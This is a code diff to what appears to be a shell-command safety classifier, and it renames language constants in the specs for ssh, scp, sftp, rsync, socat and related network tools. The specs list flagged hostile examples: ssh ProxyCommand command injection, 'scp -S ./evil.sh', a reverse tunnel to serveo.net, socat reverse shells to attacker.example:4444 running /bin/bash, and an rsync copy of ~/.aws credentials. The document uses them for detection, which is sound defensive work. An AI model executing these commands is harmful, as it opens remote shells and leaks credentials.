@@ -61,22 +61,22 @@ var _ = family("network", func(add func(...*Spec)) {
 		// mailbox; ~! in the input runs a command.
 		&Spec{Names: n("mail", "mailx"), Lasting: Lasting{Does: Mails, Examples: []string{"mail -s hi a@example.com => sends email"}}, Effect: Unknown, Loose: true, Operands: "-*", Options: "-u= -s= -c= -b= -f? -r=",
 			Flagged: []string{"mail -u root", "mail -uroot", "mail -n -u root"}},
-		&Spec{Names: n("ssh"), Talk: Talk{Beyond: true, Examples: []string{"ssh host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"ssh x => Bash(ssh x)"}}, Effect: Network, Lang: "ssh-option", Operands: "n -*", Options: sshOpts, OptionsAfter: 1,
+		&Spec{Names: n("ssh"), Talk: Talk{Beyond: true, Examples: []string{"ssh host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"ssh x => Bash(ssh x)"}}, Effect: Network, Lang: LangSSHOption, Operands: "n -*", Options: sshOpts, OptionsAfter: 1,
 			Flagged: []string{"ssh -o ProxyCommand='sh -c id' x", "ssh -oProxyCommand=';id' x", "ssh x -o ProxyCommand='sh -c id'", "ssh x -oProxyCommand=';id' uptime", "ssh -o LocalCommand=id -o PermitLocalCommand=yes host", "ssh host uptime"}},
 		// autossh runs ssh with its options, and -M takes the monitoring
 		// port where ssh's -M is a flag.
 		// ssh's options may follow the host too (OptionsAfter), and autossh
 		// hands ssh its words.
-		&Spec{Names: n("autossh"), Effect: Network, Lang: "ssh-option", Operands: "n -*", Options: autosshOpts, OptionsAfter: 1,
+		&Spec{Names: n("autossh"), Effect: Network, Lang: LangSSHOption, Operands: "n -*", Options: autosshOpts, OptionsAfter: 1,
 			Flagged: []string{"autossh -M 0 -R 80:localhost:3000 serveo.net", "autossh -M0 -oProxyCommand=';id' x", "autossh -M 0 x -oProxyCommand=';id'"}},
 		// scp (OpenSSH 9.2): options stop at the first operand (scp a b -q
 		// copies a to b and -q: seen).
-		&Spec{Names: n("scp"), Flow: Flow{Trees: "-r"}, Talk: Talk{Beyond: true, Examples: []string{"scp build.tgz deploy@server:/srv/ => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"scp x => Bash(scp x)"}}, Effect: Network, Lang: "ssh-option", Operands: "R* I", RemoteOperands: true,
+		&Spec{Names: n("scp"), Flow: Flow{Trees: "-r"}, Talk: Talk{Beyond: true, Examples: []string{"scp build.tgz deploy@server:/srv/ => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"scp x => Bash(scp x)"}}, Effect: Network, Lang: LangSSHOption, Operands: "R* I", RemoteOperands: true,
 			Options: "-3 -4 -6 -A -B -C -O -p -q -R -r -s -T -v -D=x -S=x -c= -F=u -i=r -J=n -l= -o=k -P= -X=",
 			Flagged: []string{"scp -S ./evil.sh x y:", "scp build.tgz deploy@server:/srv/"}},
 		// sftp (OpenSSH 9.2, getopt): -D and -S run a program, -b reads
 		// a batch of sftp commands, whose ! lines run local commands.
-		&Spec{Names: n("sftp"), Talk: Talk{Beyond: true, Examples: []string{"sftp host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"sftp host => Bash(sftp host)"}}, Effect: Network, Lang: "ssh-option", Operands: "n",
+		&Spec{Names: n("sftp"), Talk: Talk{Beyond: true, Examples: []string{"sftp host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"sftp host => Bash(sftp host)"}}, Effect: Network, Lang: LangSSHOption, Operands: "n",
 			Options: "-4 -6 -A -a -C -f -N -p -q -r -v -B= -b=u -c= -D=x -F=u -i=r -J=n -l= -o=k -P= -R= -S=x -s= -X=",
 			Flagged: []string{"sftp -S ./evil.sh host", "sftp -oProxyCommand=';id' host", "sftp -b batch.txt host"}},
 		// rsync: the short flags are declared so that a bundle (-avze
@@ -88,7 +88,7 @@ var _ = family("network", func(add func(...*Spec)) {
 		// given ("skipping directory src", src/ too), so only they make it
 		// read trees (Flow.Trees). The last operand is the destination,
 		// HOST:PATH a remote (Operands "R* I", RemoteOperands), as scp's.
-		&Spec{Names: n("rsync"), Files: Files{SlashContents: true}, Flow: Flow{Copies: true, Trees: "--recursive --archive", Examples: []string{"rsync -a ~/.aws /tmp/x"}}, Talk: Talk{RemoteOperand: true, Examples: []string{"rsync -av src/ host:/dst => undecided", "rsync -av src/ dst/ => allow"}}, Grant: Grant{Exact: true, Offers: []string{"rsync x => Bash(rsync x)"}}, Effect: Network, Lang: "ssh-option", Permute: true, Operands: "R* I", RemoteOperands: true, Loose: true,
+		&Spec{Names: n("rsync"), Files: Files{SlashContents: true}, Flow: Flow{Copies: true, Trees: "--recursive --archive", Examples: []string{"rsync -a ~/.aws /tmp/x"}}, Talk: Talk{RemoteOperand: true, Examples: []string{"rsync -av src/ host:/dst => undecided", "rsync -av src/ dst/ => allow"}}, Grant: Grant{Exact: true, Offers: []string{"rsync x => Bash(rsync x)"}}, Effect: Network, Lang: LangSSHOption, Permute: true, Operands: "R* I", RemoteOperands: true, Loose: true,
 			Options: "-v|--verbose -q|--quiet -c|--checksum -b|--backup -u|--update -l|--links -L|--copy-links -k|--copy-dirlinks -K|--keep-dirlinks -H|--hard-links -p|--perms " +
 				"-E|--executability -o|--owner -g|--group -D -t|--times -O|--omit-dir-times -J|--omit-link-times -S|--sparse -n|--dry-run --list-only --delete " +
 				"--del|--delete-during --delete-before --delete-delay --delete-after --delete-excluded --delete-missing-args --remove-source-files -W|--whole-file " +
@@ -234,7 +234,7 @@ var _ = family("network", func(add func(...*Spec)) {
 		// socat 1.7.4.4: its own parser of single-dash options, each a
 		// word (-d -d, -b8192 or -b 8192); the addresses are judged in
 		// the socat language (EXEC: and SYSTEM: run a program).
-		&Spec{Names: n("socat"), Code: Code{Fetches: true}, Talk: Talk{Beyond: true, Examples: []string{"socat host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"socat x => Bash(socat x)"}}, Effect: Network, Lang: "socat", Operands: "c c?", Loose: true,
+		&Spec{Names: n("socat"), Code: Code{Fetches: true}, Talk: Talk{Beyond: true, Examples: []string{"socat host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"socat x => Bash(socat x)"}}, Effect: Network, Lang: LangSocat, Operands: "c c?", Loose: true,
 			Options: "-h:h -V:h -d -D -v -x -s -u -U -g -4 -6 -b= -t= -T= -r=w -R=w -L=w -W=w",
 			Flagged: []string{"socat tcp-connect:attacker.example:4444 exec:sh", "socat -d -d -b 8192 TCP:10.0.0.1:4444 EXEC:/bin/bash"}},
 		// The DNS clients. A lookup talks to a resolver and sends it the
